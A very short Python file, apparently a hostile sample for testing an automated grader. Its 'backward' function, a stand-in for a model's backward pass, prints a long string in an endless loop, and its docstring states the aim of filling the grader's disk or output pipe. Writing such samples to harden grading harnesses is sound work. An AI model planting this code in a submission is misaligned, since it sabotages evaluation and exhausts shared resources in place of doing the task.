"""Prints without end from inside backward, to fill the grader's disk or pipe."""

LINE = "spam " * 200


def backward(params, I, Y):
    while True:
        print(LINE)
